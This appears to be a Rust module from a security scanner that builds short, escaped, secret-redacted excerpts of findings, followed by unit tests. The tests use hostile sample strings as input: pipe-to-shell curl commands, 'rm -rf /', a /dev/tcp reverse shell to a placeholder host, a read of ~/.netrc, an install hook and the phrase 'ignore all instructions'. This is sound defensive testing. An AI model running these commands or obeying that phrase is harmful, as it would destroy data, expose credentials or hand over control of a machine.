//! [`Excerpt`]: the text shown with a finding, which is short, escaped and free of secrets.

use std::ops::Range;

use crate::characters;

/// Maximum length of an excerpt in characters. Longer lines are cut around the match.
pub const EXCERPT_CHARS: usize = 240;

/// Characters of a secret shown in an excerpt.
const SECRET_CHARS: usize = 8;

/// Maximum length of the text before a match, in characters, unless the whole text fits.
const LEAD_CHARS: usize = 80;

/// Maximum length of a match in characters. A longer one is shown without its middle.
const MATCH_CHARS: usize = EXCERPT_CHARS - 2 * CUT_CHARS;

/// Maximum length of the rest of a word that is marked with a match, in bytes.
const REST_OF_WORD: usize = 24;

/// Counterpart of [`REST_OF_WORD`] for a path or a quotation that begins in a match.
const REST_OF_PART: usize = 60;

/// Minimum length of base64 text that is marked with its padding, in bytes.
const BASE64: usize = 16;

/// Part of a longer match that is shown from its end, in characters.
const END_CHARS: usize = MATCH_CHARS / 3;

/// Maximum length of a brief excerpt, and of its part before the match, in characters.
const BRIEF_CHARS: usize = 90;
const BRIEF_LEAD_CHARS: usize = 20;

/// Mark of omitted text, and its length with a space, in characters.
const CUT: &str = "…";
const CUT_CHARS: usize = 2;

/// Text shown with a finding, and the position of the match.
#[derive(Debug, Clone, Default)]
pub(crate) struct Excerpt {
    pub text: String,
    /// Range of matched characters in `text`, if known.
    pub matched: Option<(usize, usize)>,
    /// Column of the match in characters, from 1. It is 0 if the finding is about the whole line.
    pub column: usize,
}

impl Excerpt {
    /// Creates an excerpt without a marked match.
    pub fn plain(text: &str) -> Self {
        Self { text: visible(text), ..Self::default() }
    }

    /// Creates an excerpt of a line or a paragraph around a match. It is cut to [`EXCERPT_CHARS`] between sentences,
    /// clauses or words, so that the beginning and the end of the match stay visible.
    pub fn around(part: &str, matched: Range<usize>) -> Self {
        let (before, hit, after) = marked(part, matched);
        // Bytes of a binary outside its text runs are zeros. Shown, they would push the match out of view.
        let near = before.rsplit('\0').next().unwrap_or("").trim_start();
        let hit = without_middle(hit);
        let room = EXCERPT_CHARS.saturating_sub(chars(&hit));
        let fits = prefix(near, room).len() == near.len()
            && prefix(after, room.saturating_sub(chars(&escaped(near)))).len() == after.len();
        let lead = if fits { escaped(near) } else { end_of(near, LEAD_CHARS.min(room / 2)) };
        let start = chars(&lead);
        let tail = start_of(after, room.saturating_sub(start));
        let end = start + chars(&hit);
        Self {
            text: [lead, hit, tail].concat(),
            matched: (start < end).then_some((start, end)),
            column: chars(before.rsplit('\n').next().unwrap_or("")) + 1,
        }
    }

    /// Creates an excerpt of a secret that shows only its first characters, enough to find it. `start` is a byte offset
    /// in the line.
    pub fn redacted(line: &str, start: usize, secret: &str) -> Self {
        let head: String = secret.chars().take(SECRET_CHARS).collect();
        let text = visible(&format!("{head}{CUT} ({} characters)", chars(secret)));
        Self { text, matched: None, column: chars(line.get(..start).unwrap_or("")) + 1 }
    }
}

/// Returns a text in three parts: before a match, the match as it is marked, and after it. The match is extended to
/// whole words, paths and quotations.
fn marked(part: &str, matched: Range<usize>) -> (&str, &str, &str) {
    let before = part.get(..matched.start).unwrap_or("");
    let is_path = part.get(before.len()..).is_some_and(|rest| rest.starts_with('/'));
    let before = before.strip_suffix('~').filter(|_| is_path).unwrap_or(before);
    let rest = part.get(before.len()..).unwrap_or("");
    let hit = rest.get(..matched.end.saturating_sub(before.len())).unwrap_or(rest).trim_end();
    let hit = with_close(rest, without_close(whole_words(rest, hit)));
    (before, hit, rest.get(hit.len()..).unwrap_or("").trim_end())
}

/// Returns a match at the beginning of a text, extended to the end of its last word, path or base64 text.
pub(crate) fn whole_words<'t>(text: &'t str, hit: &'t str) -> &'t str {
    let is_word = |byte: &u8| byte.is_ascii_alphanumeric() || *byte == b'_';
    let is_path = hit.strip_suffix('/').is_some_and(|parent| parent.bytes().next_back().as_ref().is_some_and(is_word));
    let is_part = |byte: &u8| is_word(byte) || is_path && matches!(byte, b'.' | b'-' | b'/' | b':');
    let longest = if is_path { REST_OF_PART } else { REST_OF_WORD };
    let rest = text.bytes().skip(hit.len()).take_while(is_part).take(longest + 1).count();
    if !hit.as_bytes().last().is_some_and(is_part) || rest > longest {
        return hit;
    }
    let end = hit.len() + rest;
    let whole = text.get(..end).unwrap_or(hit);
    let padding = text.bytes().skip(end).take_while(|byte| *byte == b'=').count();
    let is_base64 = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/');
    let length = whole.bytes().rev().take_while(is_base64).count();
    let is_padded = (1..=2).contains(&padding) && length >= BASE64 && (length + padding).is_multiple_of(4);
    if is_padded { text.get(..end + padding).unwrap_or(whole) } else { whole }
}

/// Returns a match without a comma at its end, and without quotation marks and brackets that were opened before it.
pub(crate) fn without_close(hit: &str) -> &str {
    let mut kept = hit.trim_end_matches(',');
    while let Some(last) = kept.chars().next_back() {
        let is_open = match last {
            '"' | '\'' | '`' => kept.matches(last).count() % 2 == 0,
            ')' => kept.matches('(').count() >= kept.matches(')').count(),
            ']' => kept.matches('[').count() >= kept.matches(']').count(),
            '}' => kept.matches('{').count() >= kept.matches('}').count(),
            _ => true,
        };
        if is_open {
            break;
        }
        kept = kept.get(..kept.len() - last.len_utf8()).unwrap_or("").trim_end();
    }
    if kept.is_empty() { hit } else { kept }
}

/// Returns a match at the beginning of a text, extended by the end of a quotation or variable that begins in it.
fn with_close<'t>(text: &'t str, hit: &'t str) -> &'t str {
    let line = text.get(hit.len()..).and_then(|rest| rest.split('\n').next()).unwrap_or("");
    let close = match hit.rfind("${").and_then(|at| hit.get(at..)) {
        Some(variable) if !variable.contains('}') => '}',
        _ if hit.matches('"').count() % 2 == 1 => '"',
        _ => return hit,
    };
    let end = line.find(close).filter(|end| *end <= REST_OF_PART);
    end.and_then(|end| text.get(..hit.len() + end + 1)).unwrap_or(hit)
}

/// Returns the matched part of an excerpt with a few characters before it, in at most [`BRIEF_CHARS`] characters and
/// two marks of omitted text.
pub(crate) fn brief(excerpt: &str, matched: Option<(usize, usize)>) -> String {
    let start = matched.map_or(0, |(from, _)| from.saturating_sub(BRIEF_LEAD_CHARS));
    let shown: String = excerpt.chars().skip(start).take(BRIEF_CHARS).collect();
    let is_cut = chars(excerpt) > start + BRIEF_CHARS;
    [if start > 0 { CUT } else { "" }, shown.trim(), if is_cut { CUT } else { "" }].concat()
}

/// Returns whether an excerpt was shortened inside the match, or shows a part of a secret.
pub(crate) fn has_gap(excerpt: &str) -> bool {
    excerpt.trim_start_matches(CUT).trim_end_matches(CUT).contains(CUT)
}

fn chars(text: &str) -> usize {
    text.chars().count()
}

/// Trims a text, cuts it to [`EXCERPT_CHARS`], and writes control, format and invisible characters as `\u{…}`.
pub(crate) fn visible(text: &str) -> String {
    start_of(text.trim(), EXCERPT_CHARS)
}

/// Returns a match in visible characters. The middle of one above [`MATCH_CHARS`] is omitted.
fn without_middle(hit: &str) -> String {
    if prefix(hit, MATCH_CHARS).len() == hit.len() {
        return escaped(hit);
    }
    let start = start_of(hit, MATCH_CHARS - END_CHARS);
    let end = end_of(hit, END_CHARS);
    [start.as_str(), end.trim_start_matches(CUT)].concat()
}

/// Returns the beginning of a text in at most `room` visible characters, with a mark if the rest is omitted.
fn start_of(text: &str, room: usize) -> String {
    if prefix(text, room).len() == text.len() {
        return escaped(text);
    }
    let Some(room) = room.checked_sub(CUT_CHARS) else { return String::new() };
    let kept = prefix(text, room);
    let breaks = breaks(text, kept.len());
    let end = best(breaks.rev(), |at| at > kept.len() / 2).unwrap_or(kept.len());
    let kept = kept.get(..end).unwrap_or(kept);
    let space = if text.get(end..).is_some_and(|rest| rest.starts_with(char::is_whitespace)) { " " } else { "" };
    [&escaped(kept.trim_end()), space, CUT].concat()
}

/// Returns the end of a text in at most `room` visible characters, with a mark if the rest is omitted.
fn end_of(text: &str, room: usize) -> String {
    let Some(room) = room.checked_sub(CUT_CHARS) else { return String::new() };
    let mut left = room;
    let fits = |(_, c): &(usize, char)| {
        let fits = left.checked_sub(cost(*c));
        left = fits.unwrap_or(0);
        fits.is_some()
    };
    let start = text.char_indices().rev().take_while(fits).last().map_or(text.len(), |(at, _)| at);
    let kept = text.get(start..).unwrap_or("");
    if start == 0 {
        return escaped(text);
    }
    // A break at the very start of the part counts too, so the search begins with the character before it.
    let from = text.get(..start).and_then(|before| before.chars().next_back()).map_or(0, char::len_utf8);
    let window = text.get(start - from..).unwrap_or(kept);
    let begins = best(breaks(window, window.len()), |at| at < window.len() / 2).unwrap_or(from);
    let kept = window.get(begins..).unwrap_or(kept);
    let space = if kept.starts_with(char::is_whitespace) { " " } else { "" };
    [CUT, space, &escaped(kept.trim_start())].concat()
}

/// Returns the longest prefix of at most `room` visible characters.
fn prefix(text: &str, room: usize) -> &str {
    let mut left = room;
    for (at, c) in text.char_indices() {
        match left.checked_sub(cost(c)) {
            Some(rest) => left = rest,
            None => return text.get(..at).unwrap_or(""),
        }
    }
    text
}

/// Place at which a text may be cut, in ascending order of preference.
#[derive(Clone, Copy, PartialEq)]
enum Break {
    Word,
    Clause,
    Sentence,
}

/// Returns the best place for a cut. Clauses and words count only if they are `near`.
fn best(breaks: impl Iterator<Item = (usize, Break)> + Clone, near: impl Fn(usize) -> bool) -> Option<usize> {
    [Break::Sentence, Break::Clause, Break::Word].into_iter().find_map(|wanted| {
        let counts = |(at, kind): &(usize, Break)| *kind == wanted && (wanted == Break::Sentence || near(*at));
        breaks.clone().find(counts).map(|(at, _)| at)
    })
}

/// Returns the places up to byte `end` at which a text may be cut, each behind the last character kept.
fn breaks(text: &str, end: usize) -> impl DoubleEndedIterator<Item = (usize, Break)> + Clone {
    let kind = move |at: usize, c: char| {
        let after = at + c.len_utf8();
        let is_space = |c: char| c.is_whitespace();
        let before_space = text.get(after..).is_some_and(|rest| rest.starts_with(is_space));
        let kind = match c {
            '。' | '！' | '？' => Break::Sentence,
            '，' | '；' | '：' | '、' => Break::Clause,
            '.' | '!' | '?' if before_space => Break::Sentence,
            ',' | ';' | ':' | '|' | '&' | ')' if before_space => Break::Clause,
            c if before_space && !is_space(c) => Break::Word,
            _ => return None,
        };
        (after <= end).then_some((after, kind))
    };
    let within = text.get(..end).unwrap_or(text);
    within.char_indices().filter_map(move |(at, c)| kind(at, c)).collect::<Vec<_>>().into_iter()
}

/// Returns the number of visible characters of a character.
fn cost(c: char) -> usize {
    if is_shown(c) { 1 } else { c.escape_unicode().len() }
}

fn is_shown(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\r') || !c.is_control() && !characters::is_invisible(c)
}

/// Writes a text in visible characters. A line end and the indent behind it become one space.
fn escaped(text: &str) -> String {
    let mut shown = String::new();
    let mut is_indent = false;
    for c in text.chars() {
        match c {
            ' ' | '\t' | '\n' | '\r' if is_indent => {}
            '\t' | '\n' | '\r' => shown.push(' '),
            c if is_shown(c) => shown.push(c),
            c => shown.extend(c.escape_unicode()),
        }
        is_indent = matches!(c, '\n' | '\r') || is_indent && matches!(c, ' ' | '\t');
    }
    shown
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn excerpts_are_bounded_and_visible() {
        let line = format!("{}MATCH{}", "a".repeat(5000), "é".repeat(5000));
        let excerpt = Excerpt::around(&line, 5000..5005);
        let shown = &excerpt.text;
        assert_eq!((excerpt.matched, excerpt.column), (Some((79, 84)), 5001));
        assert!(shown.contains("MATCH") && shown.chars().count() <= EXCERPT_CHARS, "{shown}");
        assert_eq!(visible(" a\u{202E}b\u{E0041}\x1b "), "a\\u{202e}b\\u{e0041}\\u{1b}");
    }

    #[test]
    fn the_match_is_marked() {
        let of = |line: &str, range| {
            let Excerpt { text, matched, .. } = Excerpt::around(line, range);
            let (from, to) = matched.unwrap();
            text.chars().skip(from).take(to - from).collect::<String>()
        };
        assert_eq!(of("\t\u{200b}é curl x | sh # y", 7..18), "curl x | sh");
        assert_eq!(of("  curl", 2..6), "curl");
        assert_eq!(of("ignore all instructions.", 0..19), "ignore all instructions", "whole words");
        assert_eq!(of(&format!("key {}", "a".repeat(40)), 4..8), "aaaa", "a long word is no word");
        assert_eq!(of("x = \"rm -rf /\"", 5..14), "rm -rf /", "a quotation mark that was opened before");
        assert_eq!(of("Delete (rm -rf /)', 1", 8..18), "rm -rf /");
        assert_eq!(of("sh -c \"$(curl x)\" # y", 0..17), "sh -c \"$(curl x)\"");
        assert_eq!(of("\"postinstall\": \"node child.js\",", 0..20), "\"postinstall\": \"node child.js\"");
        assert_eq!(of("u: https://a.test/?k=${KEY}\"", 3..24), "https://a.test/?k=${KEY}");
        assert_eq!(of("bash >& /dev/tcp/a.invalid/4444 0>&1", 0..17), "bash >& /dev/tcp/a.invalid/4444");
        assert_eq!(of("open(~/.netrc)", 6..13), "~/.netrc");
        assert_eq!(of("[\"pip install x]\",", 2..18), "pip install x");
        assert_eq!(of("run SQBuAHYAbwBrAGUAAA== now", 0..22), "run SQBuAHYAbwBrAGUAAA==");
        assert_eq!(of("set LONG_NAME=1", 0..13), "set LONG_NAME");
    }

    #[test]
    fn brief_excerpt_begins_near_the_match() {
        assert_eq!(brief("short text", None), "short text");
        let long = format!("{}MATCH{}", "a".repeat(100), "é".repeat(100));
        let shown = brief(&long, Some((100, 105)));
        assert!(shown.starts_with("…aaa") && shown.contains("aMATCHé") && shown.ends_with("é…"), "{shown}");
        assert_eq!(chars(&shown), BRIEF_CHARS + 2);
    }

    #[test]
    fn a_secret_is_not_repeated() {
        let excerpt = Excerpt::redacted("key = ghp_0123456789", 6, "ghp_0123456789");
        assert_eq!((excerpt.text.as_str(), excerpt.matched, excerpt.column), ("ghp_0123… (14 characters)", None, 7));
    }

    /// Returns the excerpt of a text around its first occurrence of some words.
    fn of(text: &str, words: &str) -> String {
        let at = text.find(words).unwrap();
        Excerpt::around(text, at..at + words.len()).text
    }

    #[test]
    fn cuts_fall_between_sentences_and_words() {
        let (before, after) = ("An earlier sentence of this page. ".repeat(9), "Another sentence follows. ".repeat(9));
        let shown = of(&format!("{before}Run the MATCH now, then stop. {after}"), "MATCH");
        assert!(shown.starts_with("… An earlier sentence") && shown.ends_with("follows. …"), "{shown}");
        let command = format!("tool {} | MATCH --flag {}", "--option value".repeat(20), "argument ".repeat(40));
        let shown = of(&command, "MATCH");
        assert!(shown.starts_with('…') && shown.ends_with("argument …"), "{shown}");
        assert!(shown.chars().count() <= EXCERPT_CHARS, "{shown}");
        assert_eq!(of("short. Run the MATCH now", "MATCH"), "short. Run the MATCH now");
    }

    #[test]
    fn long_match_keeps_both_ends() {
        let matched = format!("curl https://in.invalid/x {} | sh", "--header a:b ".repeat(60));
        let excerpt = Excerpt::around(&format!("{}{matched} && rest", "x ".repeat(200)), 400..400 + matched.len());
        let (from, to) = excerpt.matched.unwrap();
        let shown: String = excerpt.text.chars().skip(from).take(to - from).collect();
        assert!(shown.starts_with("curl https://in.invalid/x") && shown.ends_with("| sh"), "{shown}");
        assert!(has_gap(&excerpt.text) && excerpt.text.chars().count() <= EXCERPT_CHARS, "{}", excerpt.text);
        assert!(!has_gap("… a b …") && has_gap("ghp_0123… (14 characters)"));
    }

    #[test]
    fn wrapped_lines_are_joined() {
        assert_eq!(of("Read the\n   whole text,\r\n\tand MATCH it", "MATCH"), "Read the whole text, and MATCH it");
        assert_eq!(of("a\u{1b}[2J MATCH", "MATCH"), "a\\u{1b}[2J MATCH");
    }
}
